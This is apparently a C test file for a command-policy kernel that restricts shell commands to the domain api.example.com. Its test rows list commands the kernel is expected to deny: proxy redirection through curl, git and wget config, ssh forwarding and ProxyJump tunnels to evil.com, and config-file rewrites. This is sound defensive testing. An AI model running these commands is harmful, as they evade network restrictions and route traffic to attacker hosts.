/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev63_hostkv.c - review 23 "hostfix": the KEY VALUE
 * readings of a leaf's words (src/kernel/leaf_host_kv.c, leaf_host.c,
 * constraint_domain.c):
 *   - H2: unread spellings (curl's socks5/connect-to config names,
 *     "printf -vKEY", "printf -v KEY -- V", read/mapfile from a pipe,
 *     "{http,https}_proxy=", git config --comment, GIT_CONFIG_PARAMETERS,
 *     ssh's LocalForward/RemoteForward/-L/-R/-W);
 *   - H3: config text (ssh's "KEY VALUE" lines, gitconfig, .curlrc,
 *     .wgetrc) written to a file or pipe in the same call;
 *   - H4: an argv in a single-quoted JSON word;
 *   - H5: each entry of a ProxyJump / -J list;
 *   - M1: curl's -H/-d values, grep patterns and git's -m messages are no
 *     config text.
 * The grant is domain_exact api.example.com; every call carries its URL.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kernel/hostcost.h"
#include "kernel/kernelutil.h"

#define NOW      1710000300u
#define DX       KT_DX("api.example.com")
#define NROWS(a) (sizeof(a) / sizeof((a)[0]))

/* H2: curl config names of host options, printf -vKEY and --, read/mapfile
 * from a pipe or process substitution, brace-expanded names, git config
 * --comment, GIT_CONFIG_PARAMETERS, ssh's forwardings */
Test(rev63_hostkv, h2_unread_key_value_spellings_are_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'socks5 = 127.0.0.1:18222' | "
         "curl -K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'socks4a = 127.0.0.1:18222' | "
         "curl -K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'connect-to = ::evil.com:443' | "
         "curl -K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf -vhttp_proxy 127.0.0.1:18222; "
         "export http_proxy; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf -v http_proxy -- "
         "127.0.0.1:18222; export http_proxy; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"read http_proxy < <(echo "
         "127.0.0.1:18222); export http_proxy; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 127.0.0.1:18222 | { read "
         "http_proxy; export http_proxy; curl http://api.example.com/; }\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 127.0.0.1:18222 | mapfile -t "
         "http_proxy\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"export "
         "{http,https}_proxy=127.0.0.1:18222; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global --comment note "
         "http.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": "
         "\"GIT_CONFIG_PARAMETERS=\\\"'http.proxy'='127.0.0.1:18222'\\\" git ls-remote "
         "http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": "
         "\"GIT_CONFIG_PARAMETERS=\\\"'user.name'='bob' 'http.proxy'='127.0.0.1:18222'\\\" git "
         "ls-remote http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'LocalForward 8080 "
         "evil.com:80' api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'RemoteForward 9000 "
         "evil.com:22' api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -L 8080:evil.com:80 "
         "api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -L8080:evil.com:80 "
         "api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -R 9000:evil.com:22 "
         "api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -W evil.com:22 api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -L 8080:api.example.com:80 "
         "api.example.com\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -D 1080 api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'LocalForward 8080 "
         "api.example.com:80' api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyCommand ssh -W %h:%p "
         "api.example.com' api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"export "
         "{http,https}_proxy=api.example.com:3128; curl http://api.example.com/\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"read -r line < file.txt\"}", 1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"read -r host port <<< "
         "\\\"$addr\\\"\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global --comment note "
         "user.name bob\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": "
         "\"GIT_CONFIG_PARAMETERS=\\\"'user.name'='bob'\\\" git log\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"NO_PROXY='api.example.com,localhost' "
         "curl https://api.example.com/\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H3: ssh, git, curl and wget config text written to a file (heredoc,
 * echo/printf redirected, tee) in the same call */
Test(rev63_hostkv, h3_config_text_written_to_a_file_is_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > c2 <<EOF\\nHost *\\n  ProxyJump "
         "evil.com\\nEOF\\nssh -F c2 api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'ProxyJump evil.com' > /tmp/c; "
         "ssh -F /tmp/c api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'Host *\\\\n  ProxyJump "
         "evil.com\\\\n' >> ~/.ssh/config && ssh api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat >> ~/.gitconfig <<EOF\\n[http]\\n "
         " proxy = 127.0.0.1:18222\\nEOF\\ngit ls-remote http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf '[http]\\\\nproxy = "
         "127.0.0.1:18222\\\\n' >> ~/.gitconfig; git ls-remote http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' | tee "
         "~/.curlrc; curl https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'use_proxy = on\\\\nhttp_proxy "
         "= 127.0.0.1:18222\\\\n' > ~/.wgetrc; wget http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'Hostname evil.com' | ssh -F "
         "/dev/stdin api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > notes.md <<EOF\\n# Server "
         "setup\\nrun the server: see docs\\nEOF\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'server started' > log.txt\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/ > "
         "out.json 2>&1\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -s https://api.example.com/ | "
         "tee out.log\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"kubectl get pods -o wide > "
         "pods.txt\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > c2 <<EOF\\nHost api\\n  "
         "Hostname api.example.com\\n  User deploy\\nEOF\\nssh -F c2 api\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H4: an argv in a single-quoted JSON word, run by python or jq | xargs */
Test(rev63_hostkv, h4_an_argv_in_a_quoted_json_word_is_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"python3 -c 'import "
         "subprocess,json,sys; subprocess.run(json.loads(sys.argv[1]))' "
         "'[\\\"curl\\\",\\\"-x\\\",\\\"127.0.0.1:18222\\\",\\\"https://api.example.com/\\\"]'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"jq -r '.[]' <<< "
         "'[\\\"-x\\\",\\\"127.0.0.1:18222\\\"]' | xargs curl https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo "
         "'[\\\"-sx\\\",\\\"2130706433\\\"]' | jq -r '.[]' | xargs curl "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"python3 -c 'import json,sys; "
         "print(json.loads(sys.argv[1]))' '[\\\"a\\\",\\\"b\\\",\\\"report.pdf\\\"]'\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"jq -r '.[]' <<< "
         "'[\\\"-x\\\",\\\"api.example.com:3128\\\"]' | xargs curl https://api.example.com/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -d "
         "'{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}' https://api.example.com/\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo '[1,2,3]' | jq .\"}", 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H5: each entry of a ProxyJump / -J list (user@, :port) in any order */
Test(rev63_hostkv, h5_every_jump_host_of_a_list_is_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J evil.com,api.example.com "
         "api.example.com.\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J 127.0.0.1,api.example.com "
         "api.example.com.\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyJump "
         "evil.com,api.example.com' api.example.com.\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o "
         "ProxyJump=evil.com,api.example.com api.example.com.\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J api.example.com,evil.com "
         "api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J "
         "api.example.com,u@evil.com:2222 api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"ssh\", \"-J\", "
         "\"evil.com,api.example.com\", \"api.example.com.\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J "
         "api.example.com,user@api.example.com:2222 api.example.com.\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -J user@api.example.com:2222 "
         "api.example.com.\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* M1: curl's -H/-d values, grep patterns and git's -m messages are no
 * config text; a host key given a value the kernel cannot read (printf
 * -v host '%s' "$1", read -r remote_url <<< "$(..)") stays denied,
 * a documented fail-closed false denial */
Test(rev63_hostkv, m1_config_text_is_not_read_in_headers_data_or_patterns)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/ -H "
         "'X-Server: main.py'\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/ "
         "--data-binary 'host: app.py'\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"wget -O- https://api.example.com/ | "
         "grep 'server: nginx.conf'\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git commit -m 'server: app.py now "
         "retries (curl)'\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/ -H "
         "'X-Server: evil.com' -K - <<< 'proxy = evil.com'\"}",
         0},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf -v host '%s' \\\"$1\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"read -r remote_url <<< \\\"$(git "
         "remote get-url origin)\\\"\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* CPU time held to a ratio: 4 times the bytes may cost about 4 times the
 * time (quadratic: 16); the figures are printed for the report */
Test(rev63_hostkv, the_new_readings_cost_linear_time)
{
    static const char *const tools[] = {"t"};
    static const char *const cases[][3] = {
        {"curl x; ", "printf -v http_proxy -- a ", ""},
        {"ssh -J ", "a,", "b api"},
        {"cat > c <<EOF\\n", "ProxyJump a\\n", "EOF"},
        {"xargs curl <<< '[\\\"-x\\\",\\\"a\\\"", ",\\\"-x\\\",\\\"a\\\"", "]'"},
        {"read ", "http_proxy ", "<<< a"},
    };
    chio_kernel *k = kt_echo_kernel(NULL, hc_clock, "srv", tools, 1);
    char sid[CHIO_SESSION_ID_LEN + 1];
    double t1, t4;
    size_t i;

    kt_grant_session(k, NOW, "cap-cost", DX, sid);
    for (i = 0; i < NROWS(cases); i++) {
        (void)hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], cases[i][2], 1 << 16); /* warm */
        t1 = hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], cases[i][2], 1 << 18);
        t4 = hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], cases[i][2], 1 << 20);
        fprintf(stderr, "rev63_hostkv cost '%s': 256K %.4f s, 1M %.4f s, ratio %.2f\n", cases[i][1],
                t1, t4, t4 / (t1 > 0 ? t1 : 1e-9));
        cr_expect_lt(t4, 8 * t1 + 0.05, "'%s': 256 KiB took %.4f s, 1 MiB %.4f s (ratio %.1f)",
                     cases[i][1], t1, t4, t4 / (t1 > 0 ? t1 : 1e-9));
    }
    chio_kernel_free(k);
}
